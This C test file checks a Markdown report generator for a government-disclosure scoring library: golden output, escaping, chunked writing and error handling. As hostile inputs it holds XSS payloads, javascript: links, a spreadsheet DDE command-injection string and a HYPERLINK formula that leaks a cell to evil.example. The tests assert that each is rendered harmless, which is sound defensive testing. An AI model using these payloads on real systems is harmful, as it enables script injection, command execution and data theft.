/* The Markdown report (lib/report/markdown.c): its golden file on the
 * Langao sample, Markdown escaping byte by byte, hostile names, reasons and
 * evidence (no raw HTML, no javascript: link, table rows keep their
 * columns), any piece size, a result that keeps no reasons, a write
 * callback failing at every call, and misuse. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "eval/eval.h"
#include "report/markdown.h"
#include "report/out.h"
#include "report_support.h"
#include "testutil.h"

/* The report through pieces of `chunk` bytes; NULL on failure. free() it. */
static char *write_md(const govopen_result *r, unsigned flags, size_t chunk, size_t *len) {
  sink s = {0};
  int rc = gv_result_write_markdown(r, flags, chunk, sink_write, &s);
  return sink_text(&s, rc, chunk, len);
}

/* The unescaped pipes of a line: a | after an odd number of backslashes is text. */
static size_t pipes(const char *line, size_t n) {
  size_t count = 0, bs = 0;
  for (size_t i = 0; i < n; i++) {
    if (line[i] == '|' && bs % 2 == 0) count++;
    bs = line[i] == '\\' ? bs + 1 : 0;
  }
  return count;
}

/* What no report may hold, whatever its input: raw HTML of a script, a
   javascript: link; every table row as wide as its header; no line break
   from the input (a line starting a table is ours or a continuation). */
static void check_safe(const char *text) {
  CU_ASSERT_PTR_NULL(strstr(text, "<script"));
  CU_ASSERT_PTR_NULL(strstr(text, "</script"));
  CU_ASSERT_PTR_NULL(strstr(text, "<javascript:"));
  CU_ASSERT_PTR_NULL(strstr(text, "](javascript:"));
  CU_ASSERT_PTR_NULL(strstr(text, "\r"));
  size_t width = 0;
  for (const char *p = text; *p;) {
    const char *nl = strchr(p, '\n');
    size_t n = nl ? (size_t)(nl - p) : strlen(p);
    if (n > 0 && p[0] == '|') {
      if (width == 0) width = pipes(p, n);
      CU_ASSERT_EQUAL(pipes(p, n), width);
      if (pipes(p, n) != width) fprintf(stderr, "broken row: %.*s\n", (int)n, p);
    } else {
      width = 0;
    }
    /* an autolink is only ever http(s) */
    for (const char *a = memchr(p, '<', n); a && a < p + n; a = memchr(a + 1, '<', (size_t)(p + n - a - 1)))
      CU_ASSERT(strncmp(a, "<http://", 8) == 0 || strncmp(a, "<https://", 9) == 0);
    p = nl ? nl + 1 : p + n;
  }
}

static void test_escape(void) {
  static const struct {
    const char *in, *out;
  } cases[] = {
      {"plain 中文", "plain 中文"},
      {"", ""},
      {"\\`*_{}[]()#+-.!|~", "\\\\\\`\\*\\_\\{\\}\\[\\]\\(\\)\\#\\+\\-\\.\\!\\|\\~"},
      {"<script>alert(1)</script>", "&lt;script&gt;alert\\(1\\)&lt;/script&gt;"},
      {"a&amp;b", "a&amp;amp;b"},
      {"line\nbreak\r\ttab", "line break  tab"},
      {"ls\xe2\x80\xa8ps\xe2\x80\xa9"
       "c1\xc2\x85",
       "ls ps c1 "},
      {"[x](javascript:alert(1))", "\\[x\\]\\(javascript:alert\\(1\\)\\)"},
      {"\"quotes\" '", "\"quotes\" '"},
  };
  for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
    gv_buf b = {0};
    gv_md_text(&b, cases[i].in, strlen(cases[i].in));
    CU_ASSERT_STRING_EQUAL(gv_buf_str(&b), cases[i].out);
    if (strcmp(gv_buf_str(&b), cases[i].out) != 0) fprintf(stderr, "escape %zu: %s\n", i, gv_buf_str(&b));
    gv_buf_free(&b);
  }
}

/* The Langao sample, byte for byte tests/data/md/langao-2023.md (written by
   `govopen report --format md` and read by hand: the county total, the
   towns' first rows, 城关镇's P38). */
static void test_golden(void) {
  run x;
  CU_ASSERT_EQUAL_FATAL(run_langao(&x), 0);
  size_t glen = 0, len = 0;
  char *raw = test_read_file(test_path("data/md/langao-2023.md"), NULL);
  CU_ASSERT_PTR_NOT_NULL_FATAL(raw);
  char *golden = golden_expand(raw, x.r, &glen);
  free(raw);
  CU_ASSERT_PTR_NOT_NULL_FATAL(golden);
  char *text = write_md(x.r, 0, 0, &len);
  CU_ASSERT_PTR_NOT_NULL_FATAL(text);
  CU_ASSERT(len == glen && memcmp(text, golden, len) == 0);
  CU_ASSERT(strstr(text, "\n- **总分：99.50**\n") != NULL);
  CU_ASSERT(strstr(text, "\n### 各镇\n\n| 名次 | 单位 | 总分 | 覆盖 | 等次 | 一票否决 |\n"
                         "| ---: | --- | ---: | --- | --- | --- |\n"
                         "| 1 | 滔河镇 | 100.00 | 100%（评估点 31/31） |  | 否 |\n") != NULL);
  CU_ASSERT(strstr(text, "| 一、政府信息公开 | 30.55 | 30.61 | 38.00 |\n") != NULL);
  CU_ASSERT(strstr(text, "\n1. P38  失 1.16 分（得 1.17，满分 2.33；总分失 2.76）\n") != NULL);
  CU_ASSERT(strstr(text, "   - 证据：<https://www.langao.gov.cn/sample-2023/chengguan/p38/0001.html>\n") != NULL);
  check_safe(text);
  /* the public function gives the same bytes */
  sink s = {0};
  CU_ASSERT_EQUAL(govopen_result_write_markdown(x.r, 0, sink_write, &s), GOVOPEN_OK);
  CU_ASSERT(s.len == len && memcmp(s.data, text, len) == 0);
  sink_free(&s);
  /* English */
  size_t elen = 0;
  char *en = write_md(x.r, GOVOPEN_REPORT_LANG_EN, 0, &elen);
  CU_ASSERT_PTR_NOT_NULL_FATAL(en);
  CU_ASSERT(strstr(en, "\n- **Total: 99.50**\n") != NULL);
  CU_ASSERT(strstr(en, "\n### towns\n\n| rank | unit | total | coverage | grade | vetoed |\n") != NULL);
  CU_ASSERT(strstr(en, "\n1. P38  lost 1.16 (scored 1.17 of 2.33; 2.76 of the total)\n") != NULL);
  check_safe(en);
  free(en);
  free(text);
  free(golden);
  run_free(&x);
}

/* The fixtures' odd and injecting strings, in both languages and any piece
   size: safe, and the same bytes. */
static void test_fixtures(void) {
  int (*runs[])(run *) = {run_odd, run_inject};
  for (size_t k = 0; k < 2; k++) {
    run x;
    CU_ASSERT_EQUAL_FATAL(runs[k](&x), 0);
    for (unsigned flags = 0; flags <= GOVOPEN_REPORT_LANG_EN; flags++) {
      size_t wlen = 0;
      char *whole = write_md(x.r, flags, 0, &wlen);
      CU_ASSERT_PTR_NOT_NULL_FATAL(whole);
      check_safe(whole);
      static const size_t chunks[] = {1, 3, 64};
      for (size_t i = 0; i < 3; i++) {
        size_t plen = 0;
        char *part = write_md(x.r, flags, chunks[i], &plen);
        CU_ASSERT(part != NULL && plen == wlen && memcmp(part, whole, wlen) == 0);
        free(part);
      }
      if (k == 0 && flags == 0) {
        CU_ASSERT(strstr(whole, "| 甲\"镇\\\\ |") != NULL);
        CU_ASSERT(strstr(whole, "县一局 &lt;/script&gt;") != NULL);
        CU_ASSERT(strstr(whole, "\n### 乙 镇（b）\n") != NULL);
      }
      if (k == 1 && flags == 0) {
        CU_ASSERT(strstr(whole, "# =cmd\\|' /C calc'\\!A0：评估报告\n") != NULL);
        CU_ASSERT(strstr(whole, "   - 证据：=HYPERLINK\\(\"http://evil\\.example/?x=\"&amp;A1,\"点击\"\\)\n") != NULL);
      }
      free(whole);
    }
    run_free(&x);
  }
}

/* A unit name, reasons and evidence written to attack the page. */
static void test_hostile(void) {
  govopen_framework *fw = NULL;
  CU_ASSERT_EQUAL_FATAL(
      test_load_text("schema: 1\n"
                     "framework: {id: h, title: \"<script>alert(1)</script>\", total: 10, year: 2023, calendar: cn}\n"
                     "units:\n  - {id: a, name: \"<script>x</script>|a|b\", kind: town}\n"
                     "  - {id: b, name: \"[link](javascript:alert(1))\", kind: town}\n"
                     "grades:\n  - {name: \"<img src=x onerror=alert(1)>|\", min: 0}\n"
                     "indicators:\n  - title: \"|t|\"\n    score: 10\n    points:\n"
                     "      - {id: P1, text: \"<b>文</b>\", score: 5, sampling: [政府网站], responsible: [a, b],\n"
                     "         rule: {kind: boolean}}\n"
                     "      - {id: P2, text: 文, score: 5, sampling: [政府网站], responsible: [a, b],\n"
                     "         rule: {kind: boolean}}\n",
                     &fw, NULL),
      GOVOPEN_OK);
  govopen_evaluation *ev = NULL;
  govopen_result *r = NULL;
  CU_ASSERT_EQUAL_FATAL(govopen_evaluation_new(&ev, fw, NULL), GOVOPEN_OK);
  CU_ASSERT_EQUAL(govopen_evaluation_set_as_of(ev, "2023-12-15", NULL), GOVOPEN_OK);
  static const char obs[] =
      "{\"unit\": \"a\", \"point\": \"P1\", \"value\": false, \"evidence\": \"javascript:alert(1)\"}\n"
      "{\"unit\": \"a\", \"point\": \"P2\", \"value\": false, \"evidence\": \"https://x.example/a>b<script>\"}\n"
      "{\"unit\": \"b\", \"point\": \"P1\", \"value\": false, \"evidence\": \"https://x.example/p q\"}\n"
      "{\"unit\": \"b\", \"point\": \"P2\", \"value\": false, \"evidence\": \"HTTPS://x.example/ok\"}\n";
  CU_ASSERT_EQUAL_FATAL(govopen_evaluation_add_buffer(ev, obs, sizeof obs - 1, "h.jsonl", GOVOPEN_FORMAT_JSONL, NULL),
                        GOVOPEN_OK);
  CU_ASSERT_EQUAL_FATAL(govopen_evaluation_run(ev, &r, NULL), GOVOPEN_OK);
  for (unsigned flags = 0; flags <= GOVOPEN_REPORT_LANG_EN; flags++) {
    char *text = write_md(r, flags, 0, NULL);
    CU_ASSERT_PTR_NOT_NULL_FATAL(text);
    check_safe(text);
    CU_ASSERT_PTR_NULL(strstr(text, "<img"));
    CU_ASSERT_PTR_NULL(strstr(text, "<b>"));
    CU_ASSERT_PTR_NULL(strstr(text, "](javascript"));
    CU_ASSERT(strstr(text, "javascript:alert\\(1\\)") != NULL);
    CU_ASSERT(strstr(text, "https://x\\.example/a&gt;b&lt;script&gt;") != NULL);
    CU_ASSERT(strstr(text, "https://x\\.example/p q") != NULL);
    CU_ASSERT(strstr(text, "HTTPS://x\\.example/ok") != NULL); /* only the lowercase schemes become links */
    CU_ASSERT(strstr(text, "| &lt;script&gt;x&lt;/script&gt;\\|a\\|b |") != NULL);
    free(text);
  }
  govopen_result_free(r);
  govopen_evaluation_free(ev);
  govopen_framework_free(fw);
}

/* A result that keeps no reasons: the same bytes. */
static void test_lazy_result(void) {
  int (*runs[])(run *) = {run_langao, run_odd, run_inject};
  for (size_t k = 0; k < 3; k++) {
    run x;
    CU_ASSERT_EQUAL_FATAL(runs[k](&x), 0);
    govopen_result *lazy = NULL;
    CU_ASSERT_EQUAL_FATAL(gv_evaluate(x.ev, 0, &lazy, NULL), GOVOPEN_OK);
    size_t a = 0, b = 0;
    char *kept = write_md(x.r, 0, 0, &a);
    char *rendered = write_md(lazy, 0, 0, &b);
    CU_ASSERT(kept && rendered && a == b && memcmp(kept, rendered, a) == 0);
    free(kept);
    free(rendered);
    govopen_result_free(lazy);
    run_free(&x);
  }
}

/* A write callback failing at the k-th call, for every k: GOVOPEN_ESTOPPED at
   once, nothing called after, a prefix written (valgrind: nothing leaked). */
typedef struct md_job {
  const govopen_result *r;
  size_t chunk;
} md_job;

static int md_writer(const void *ctx, govopen_write_fn write, void *user) {
  const md_job *j = ctx;
  return gv_result_write_markdown(j->r, 0, j->chunk, write, user);
}

static void fail_every_call(const govopen_result *r, size_t chunk) {
  md_job j = {r, chunk};
  check_fails_at_every_call(md_writer, &j);
}

static void test_write_fails(void) {
  run x, y;
  CU_ASSERT_EQUAL_FATAL(run_inject(&x), 0);
  fail_every_call(x.r, 64);
  CU_ASSERT_EQUAL_FATAL(run_langao(&y), 0);
  fail_every_call(y.r, 0);
  fail_every_call(y.r, 1000);
  sink s = {0};
  s.fail_at = 1;
  CU_ASSERT_EQUAL(govopen_result_write_markdown(y.r, 0, sink_write, &s), GOVOPEN_ESTOPPED);
  CU_ASSERT_EQUAL(s.calls, 1);
  sink_free(&s);
  run_free(&x);
  run_free(&y);
}

static void test_arguments(void) {
  run x;
  CU_ASSERT_EQUAL_FATAL(run_inject(&x), 0);
  sink s = {0};
  CU_ASSERT_EQUAL(govopen_result_write_markdown(NULL, 0, sink_write, &s), GOVOPEN_EINVALID);
  CU_ASSERT_EQUAL(govopen_result_write_markdown(x.r, 0, NULL, &s), GOVOPEN_EINVALID);
  CU_ASSERT_EQUAL(govopen_result_write_markdown(x.r, GOVOPEN_CSV_NO_BOM, sink_write, &s), GOVOPEN_EINVALID);
  CU_ASSERT_EQUAL(govopen_result_write_markdown(x.r, ~0u, sink_write, &s), GOVOPEN_EINVALID);
  CU_ASSERT_EQUAL(s.calls, 0);
  sink_free(&s);
  run_free(&x);
}

static const test_case cases[] = {{"markdown escaping", test_escape},
                                  {"golden report", test_golden},
                                  {"fixtures: odd and injecting strings", test_fixtures},
                                  {"hostile names, reasons and evidence", test_hostile},
                                  {"a result without reasons", test_lazy_result},
                                  {"a write failing at every call", test_write_fails},
                                  {"bad arguments", test_arguments},
                                  {NULL, NULL}};
GV_TEST_SUITE(md, cases);
